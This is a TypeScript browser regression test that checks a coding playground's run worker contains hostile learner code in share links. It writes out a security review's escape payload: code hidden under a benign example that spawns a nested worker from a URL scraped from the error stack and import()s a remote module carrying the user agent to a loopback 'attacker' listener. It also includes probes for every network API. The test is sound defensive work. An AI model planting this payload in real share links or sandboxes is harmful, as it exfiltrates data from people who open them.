/**
 * Issue 14 items 1 and 6: learner code in a share link cannot leave the run worker.
 *
 * The exact escape of the security review (a nested worker started from the bundled run-worker URL read
 * from `new Error().stack`, told to `import()` a module from another origin) is opened as a share link
 * against a loopback listener on another port, which must receive nothing. It runs on a static host that
 * sends no security headers (as GitHub Pages), where only the worker's own lockdown stands, and on
 * `vite preview` with the CSP header. Every removed name is probed from learner code, including through
 * prototypes, and the bundled worker refuses to start from its network URL.
 */
import { createReadStream, existsSync, readdirSync, statSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { extname, join, normalize } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { encodeShare } from "../../site/storage/share.js";
import { byTestId, openApp, waitReady, type AppSession } from "./harness.js";

interface Listener { url: string; hits: string[]; close(): Promise<void> }

/** Another origin on loopback that logs every request and WebSocket upgrade and answers like an attacker's server. */
async function listener(): Promise<Listener> {
  const hits: string[] = [];
  const server = createServer((req: IncomingMessage, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" });
    res.end("export const ran = 'remote-module-ran';");
  });
  server.on("upgrade", (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => {
    const { port } = server.address() as AddressInfo;
    resolve({ url: `http://127.0.0.1:${port}`, hits, close: () => closeServer(server) });
  }));
}

function closeServer(server: Server): Promise<void> {
  (server as { closeAllConnections?: () => void }).closeAllConnections?.();
  return new Promise((r) => server.close(() => r()));
}

const TYPES: Record<string, string> = { ".html": "text/html", ".js": "text/javascript", ".css": "text/css", ".json": "application/json", ".svg": "image/svg+xml", ".ttf": "font/ttf", ".woff2": "font/woff2" };

/** dist/ served with no security headers at all, as a static host that cannot set them. */
async function staticHost(): Promise<{ url: string; close(): Promise<void> }> {
  const root = normalize("dist");
  const server = createServer((req, res) => {
    const path = normalize(join(root, decodeURIComponent(new URL(req.url ?? "/", "http://x").pathname)));
    const file = path.startsWith(root) && existsSync(path) && statSync(path).isFile() ? path : join(root, "index.html");
    res.writeHead(200, { "Content-Type": TYPES[extname(file)] ?? "application/octet-stream" });
    createReadStream(file).pipe(res);
  });
  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => {
    const { port } = server.address() as AddressInfo;
    resolve({ url: `http://127.0.0.1:${port}/`, close: () => closeServer(server) });
  }));
}

/** The review's payload, verbatim except for the listener's address. */
function reviewPayload(listenerUrl: string): string {
  return `// @ts-nocheck
import { informers, type Pod, type Playground } from "playground";

export default function main({ clientset, stop, log }: Playground) {
  const factory = informers.newSharedInformerFactory(clientset, 30_000);
  factory.core().v1().pods().informer().addEventHandler({ addFunc: (pod: Pod) => log(\`added \${pod.metadata.name}\`) });
  factory.start(stop);
  // --- the hidden part ---
  const g = globalThis as any, post = g.postMessage.bind(g);
  g.postMessage = (m: any) => (m.type === "result" || m.type === "goals" ? setTimeout(() => post(m), 600) : post(m));
  const w = new g.Worker(/(https?:\\/\\/[^\\s()]+\\/run-worker-[\\w-]+\\.js)/.exec(String(new Error().stack))![1], { type: "module" });
  w.onmessage = (e: any) => e.data.type === "ready" && w.postMessage({ type: "run", actions: [],
    scenario: { seed: 1, durationMs: 1, initial: [], timeline: [] },
    js: \`import("${listenerUrl}/exfil?ua=" + encodeURIComponent(navigator.userAgent) + "&t=" + Date.now())\` });
}
`;
}

/** Each way out the review found, tried without depending on the others; each prints what it saw. */
function probePayload(listenerUrl: string): string {
  return `// @ts-nocheck
import type { Playground } from "playground";

export default function main({ log }: Playground) {
  const g = globalThis as any;
  const probe = (name: string, f: () => unknown) => {
    try { log(\`\${name}: \${String(f())}\`); } catch (e) { log(\`\${name}: threw\`); }
  };
  const proto = (n: string) => { for (let p = Object.getPrototypeOf(g); p; p = Object.getPrototypeOf(p)) if (Object.getOwnPropertyDescriptor(p, n)?.value !== undefined || Object.getOwnPropertyDescriptor(p, n)?.get !== undefined) return "reachable"; return "gone"; };
  for (const n of ["fetch", "XMLHttpRequest", "WebSocket", "WebSocketStream", "EventSource", "WebTransport", "Worker", "SharedWorker",
    "importScripts", "indexedDB", "caches", "BroadcastChannel", "FontFace", "fonts", "RTCPeerConnection", "postMessage"]) {
    probe(\`\${n} own\`, () => typeof g[n]);
    probe(\`\${n} proto\`, () => proto(n));
  }
  probe("WorkerGlobalScope.prototype.fetch", () => typeof g.WorkerGlobalScope?.prototype?.fetch);
  probe("navigator.storage", () => typeof g.navigator.storage);
  probe("navigator.locks", () => typeof g.navigator.locks);
  probe("URL.createObjectURL", () => typeof URL.createObjectURL);
  probe("script URL in stack", () => /https?:[^\\s()]*\\.js/.test(String(new Error().stack)));
  probe("resource entries", () => performance.getEntries().length);
  probe("prototype fetch call", () => { const pf = Object.getPrototypeOf(Object.getPrototypeOf(g)).fetch; pf.call(g, "${listenerUrl}/proto-fetch"); return "called"; });
  probe("WebSocketStream call", () => { new g.WebSocketStream("ws://127.0.0.1:1/x"); return "called"; });
}
`;
}

async function openShare(base: string | undefined, lesson: string, code: string): Promise<AppSession> {
  const route = lesson === "sandbox" ? "#/sandbox" : `#/lesson/${lesson}`;
  return openApp({ baseURL: base, path: `${route}?share=${encodeShare({ lesson, code, actions: [], step: 0 })}` });
}

async function logTexts(app: AppSession): Promise<string[]> {
  return byTestId(app.page, "log-line").evaluateAll((ls) => ls.map((l) => l.querySelector(".log-text")?.textContent ?? ""));
}

describe("issue 14: the run worker holds against a hostile share link", () => {
  let attacker: Listener;
  let host: { url: string; close(): Promise<void> };

  beforeAll(async () => {
    attacker = await listener();
    host = await staticHost();
  });

  afterAll(async () => {
    await attacker.close();
    await host.close();
  });

  for (const where of ["a static host without security headers", "vite preview with the CSP header"] as const) {
    for (const lesson of ["sandbox", "06-event-handlers"]) {
      it(`the review's escape from ${lesson} on ${where} reaches nothing`, async () => {
        const app = await openShare(where.startsWith("a static") ? host.url : undefined, lesson, reviewPayload(attacker.url));
        try {
          await waitReady(app);
          await app.screenshot(`sandbox-escape-${lesson}-${where.startsWith("a static") ? "static" : "preview"}`);
          const banner = await app.page.waitForSelector('[data-testid="error"]', { timeout: 10_000 }).then((e) => e.innerText(), () => "");
          // A barrier: another full run in the same page (any request still in flight would have landed).
          await app.goto("#/lesson/01-the-big-picture");
          await waitReady(app);
          expect(attacker.hits).toEqual([]);
          // The payload died at its first use of a removed name, shown as the learner's own error.
          expect(banner).toMatch(/postMessage|Worker|undefined/);
        } finally {
          await app.close();
        }
      });
    }
  }

  it("every way out is gone from learner code, including through prototypes; stacks name no script URL", async () => {
    const app = await openShare(host.url, "sandbox", probePayload(attacker.url));
    try {
      await waitReady(app);
      const lines = await logTexts(app);
      const seen = Object.fromEntries(lines.map((l) => l.split(": ") as [string, string]));
      for (const [name, value] of Object.entries(seen)) {
        if (name.endsWith(" own")) expect(value, name).toBe("undefined");
        if (name.endsWith(" proto")) expect(value, name).toBe("gone");
      }
      expect(seen["WorkerGlobalScope.prototype.fetch"]).toBe("undefined");
      expect(seen["navigator.storage"]).toBe("undefined");
      expect(seen["navigator.locks"]).toBe("undefined");
      expect(seen["URL.createObjectURL"]).toBe("undefined");
      expect(seen["script URL in stack"]).toBe("false");
      expect(seen["resource entries"]).toBe("0");
      expect(seen["prototype fetch call"]).toBe("threw");
      expect(seen["WebSocketStream call"]).toBe("threw");
      expect(Object.keys(seen).length).toBeGreaterThan(35);
      await app.goto("#/lesson/01-the-big-picture");
      await waitReady(app);
      expect(attacker.hits).toEqual([]);
    } finally {
      await app.close();
    }
  });

  it("the bundled run worker refuses to start from its network URL", async () => {
    const app = await openApp({ baseURL: host.url, path: "#/" });
    try {
      const file = readdirSync("dist/assets").find((f) => /^run-worker-[\w-]+\.js$/.test(f));
      expect(file).toBeDefined();
      app.allow(/run worker only starts from the runner's blob/);
      const outcome = await app.page.evaluate((url) => new Promise<string>((resolve) => {
        const w = new Worker(url, { type: "module" });
        w.onmessage = (e) => resolve(`message ${JSON.stringify(e.data)}`);
        w.onerror = (e) => { e.preventDefault(); resolve(`error ${e.message}`); };
      }), new URL(`assets/${file}`, host.url).href);
      expect(outcome).toMatch(/^error .*run worker only starts from the runner's blob/);
    } finally {
      await app.close();
    }
  });
});
